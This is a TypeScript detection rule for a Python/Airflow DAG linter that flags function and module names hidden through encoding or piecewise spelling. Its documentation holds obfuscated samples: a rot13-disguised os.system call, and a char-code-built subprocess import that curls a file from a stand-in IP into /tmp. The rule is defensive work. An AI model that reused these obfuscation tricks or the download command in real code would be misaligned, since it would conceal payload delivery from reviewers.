import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { callArgs, stringValue, unwrap } from '../../src/engine/python';
import { resolveName } from '../../src/airflow/provenance';
import type { RuleContext } from '../../src/engine/context';
import { decoding } from './_decoding';

/** Where each lookup call takes the name it looks up. */
const NAME_ARG: ReadonlyMap<string, number> = new Map([
  ['builtins.getattr', 1], ['getattr', 1],
  ['builtins.__import__', 0], ['__import__', 0], ['importlib.import_module', 0], ['importlib.__import__', 0],
  ['operator.attrgetter', 0], ['operator.methodcaller', 0], ['pydoc.locate', 0],
]);

/** A name spelled out a character or two at a time: `"".join(["e", "x", "e", "c"])`, `"o" + "s"` … three pieces or more. */
function spelled(node: SyntaxNode, depth = 0): boolean {
  const n = unwrap(node);
  if (depth > 3) return false;
  if (n.type === 'identifier') return resolveName(n).some((d) => spelled(d, depth + 1));
  const pieces: SyntaxNode[] = [];
  if (n.type === 'binary_operator') {
    const walk = (x: SyntaxNode): void => {
      const u = unwrap(x);
      if (u.type === 'binary_operator' && u.childForFieldName('operator')?.type === '+') {
        walk(u.childForFieldName('left')!);
        walk(u.childForFieldName('right')!);
      } else pieces.push(u);
    };
    walk(n);
  } else if (n.type === 'concatenated_string') pieces.push(...n.namedChildren);
  else if (n.type === 'call' && n.childForFieldName('function')?.type === 'attribute' && n.childForFieldName('function')!.childForFieldName('attribute')?.text === 'join') {
    const seq = callArgs(n).positional[0];
    const u = seq && unwrap(seq);
    if (u && (u.type === 'list' || u.type === 'tuple')) pieces.push(...u.namedChildren.filter((x) => x.type !== 'comment'));
  }
  if (pieces.length < 3) return false;
  return pieces.every((p) => {
    const v = stringValue(p);
    return v !== null && v.length <= 2;
  });
}

const isLiteral = (n: SyntaxNode): boolean => unwrap(n).type === 'string' && stringValue(n) !== null;

/** How a looked-up name is hidden, or null when it is written out (or simply computed). */
function hiding(name: SyntaxNode, ctx: RuleContext): string | null {
  const d = decoding(name, ctx);
  if (d) return `decoded with \`${d}\``;
  return spelled(name) ? 'spelled out a character or two at a time' : null;
}

/** Namespaces a name can be fetched from by subscript: `globals()`, `vars(m)`, `m.__dict__`, `__builtins__`, `sys.modules`. */
function isNamespace(ns: SyntaxNode, ctx: RuleContext): boolean {
  const n = unwrap(ns);
  if (n.type === 'call') return /^(?:builtins\.)?(?:globals|vars|locals)$/.test(ctx.callee(n) ?? '');
  if (n.type === 'attribute') return n.childForFieldName('attribute')?.text === '__dict__' || ctx.qualifiedName(n) === 'sys.modules';
  if (n.type === 'identifier') return n.text === '__builtins__' || ctx.qualifiedName(n) === 'builtins';
  if (n.type === 'conditional_expression') return n.namedChildren.some((c) => isNamespace(c, ctx));
  return false;
}

export default defineRule({
  meta: {
    id: 'DG310',
    name: 'obfuscated-name-lookup',
    category: 'code-injection',
    severity: 'high',
    parseTime: 'step',
    message: '{how} looks up a name {hidden}: code that hides which function it calls',
    messages: {
      builtins: '{how} fetches the builtins module through a namespace lookup: the way to `exec`/`eval`/`__import__` without writing their names',
    },
    docs: {
      what:
        'Finds names looked up by string where the string is hidden: `getattr(m, X)`, `__import__(X)`, `importlib.import_module(X)`, `operator.attrgetter(X)`/`methodcaller(X)`, and namespace subscripts (`globals()[X]`, `vars(m)[X]`, `m.__dict__[X]`, `__builtins__[X]`, `sys.modules[X]`) whose `X` is decoded on the way (base64, hex, `bytes([...]).decode()`, `"".join(map(chr, [...]))`, `codecs.decode(…, "rot13")`, a reversed string `"…"[::-1]`, zlib…) or spelled a character or two at a time (`"".join(["e", "x", "e", "c"])`, `"o" + "s" + "."`), also through a name bound to it; and `globals()["__builtins__"]` / `vars()["__builtins__"]`, a way to the builtins module without naming it (*medium*). *Critical* at parse time.',
      why:
        'A name is hidden only to keep a reader — and every rule that matches calls by name — from seeing what is called: `getattr(__import__(codecs.decode("bf", "rot13")), codecs.decode("flfgrz", "rot13"))("id")` is `os.system("id")`. No DAG needs to hide the module or function it uses; this is how malicious packages and backdoored files look.',
      example: '```python\n_m = __import__("".join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])))\ngetattr(_m, "run")(["curl", "-so", "/tmp/a", "https://203.0.113.8/a"])\n```',
      useInstead: 'Import what you use by name (`import subprocess`) and call it by name; dispatch over a fixed dictionary of functions when the choice must be data.',
    },
  },
  calls: [...NAME_ARG.keys(), '**.__getattribute__'],
  onCall(call, fn, ctx) {
    const pos = fn.endsWith('__getattribute__') ? 0 : NAME_ARG.get(fn);
    if (pos === undefined) return;
    const name = callArgs(call).positional[pos];
    if (!name || isLiteral(name)) return;
    const hidden = hiding(name, ctx);
    if (hidden) ctx.report(call, { how: `\`${fn.replace(/^builtins\./, '').replace(/^.*\.__getattribute__$/, '__getattribute__')}\``, hidden });
  },
  query: '(subscript value: (_) @ns subscript: (_) @key) @sub',
  keywords: ['globals', 'vars', 'locals', '__dict__', '__builtins__', 'modules'],
  onMatch(c, ctx) {
    const [ns, key, sub] = [c.ns[0], c.key[0], c.sub[0]];
    if (!isNamespace(ns, ctx)) return;
    if (stringValue(key) === '__builtins__') {
      if (unwrap(ns).type === 'call') ctx.report(sub, { how: `\`${unwrap(ns).text}[…]\`` }, { message: 'builtins', severity: 'medium' });
      return;
    }
    if (isLiteral(key)) return;
    const hidden = hiding(key, ctx);
    if (hidden) ctx.report(sub, { how: 'a namespace subscript', hidden });
  },
});
